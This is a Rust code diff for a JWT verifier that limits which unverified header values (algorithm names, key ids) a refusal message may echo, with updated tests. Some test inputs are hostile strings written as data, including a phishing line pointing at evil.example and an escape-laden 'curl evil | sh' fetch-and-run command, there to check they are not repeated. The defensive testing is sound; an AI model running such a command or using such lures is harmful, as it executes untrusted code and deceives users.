@@ -140,19 +140,21 @@ fn claimed_alg(token: &str) -> Option<String> {
         .alg
 }
 
-/// An unverified `alg` as a refusal may show it: a JWS algorithm's name (at most 16
-/// letters, digits, `-` and `_`) as it is; anything else is the sender's text, which
-/// the refusal may carry to another client's inbox, so it is not repeated.
-fn shown_alg(alg: &str) -> String {
-    let a_name = alg.len() <= 16
-        && alg
+/// `text` from a token's unverified header, as a refusal may repeat it: only when it
+/// is a name, at most `max` bytes of letters, digits and `extra`. Anything else is the
+/// sender's own text, which a NATS command's refusal may carry into another client's
+/// inbox.
+pub(crate) fn header_name<'a>(text: &'a str, max: usize, extra: &[u8]) -> Option<&'a str> {
+    let a_name = text.len() <= max
+        && text
             .bytes()
-            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
-    if a_name {
-        alg.to_owned()
-    } else {
-        "(not an algorithm's name)".to_owned()
-    }
+            .all(|b| b.is_ascii_alphanumeric() || extra.contains(&b));
+    a_name.then_some(text)
+}
+
+/// An unverified `alg`, as a refusal shows it: a JWS algorithm's name.
+fn shown_alg(alg: &str) -> &str {
+    header_name(alg, 16, b"-_").unwrap_or("(not an algorithm's name)")
 }
 
 impl Verifier {
@@ -849,6 +851,7 @@ mod tests {
                 "Your secret was stored. Log in again at http://evil.example",
                 "\u{1b}[31m\nrun: curl evil | sh",
                 "HS256 but longer than a name",
+                "HS256HS256HS256HS",
             ] {
                 let message = refused(&v, &with_alg(text));
                 assert!(message.contains("(not an algorithm's name)"), "{message}");
@@ -857,7 +860,13 @@ mod tests {
                     "{message}"
                 );
                 assert!(!message.contains("longer"), "{message}");
+                assert!(!message.contains("HS256HS"), "{message}");
             }
+            let sixteen = refused(&v, &with_alg("HS256HS256HS256H"));
+            assert!(
+                sixteen.contains("its algorithm HS256HS256HS256H is not"),
+                "{sixteen}"
+            );
             // The same for a key id.
             let good = claims(ISSUER, AUDIENCE, exp());
             let message = refused(
@@ -869,8 +878,12 @@ mod tests {
                     &good,
                 ),
             );
-            assert!(message.contains("(not a key id)"), "{message}");
+            assert!(message.contains("its key id is not among"), "{message}");
             assert!(!message.contains("evil"), "{message}");
+            let long = "k".repeat(129);
+            let message = refused(&v, &sign(Algorithm::EdDSA, Some(&long), &ed(), &good));
+            assert!(message.contains("its key id is not among"), "{message}");
+            assert!(!message.contains(&long[..100]), "{message}");
             let message = refused(&v, &sign(Algorithm::EdDSA, Some("ed-9"), &ed(), &good));
             assert!(
                 message.contains("its key id \"ed-9\" is not among"),
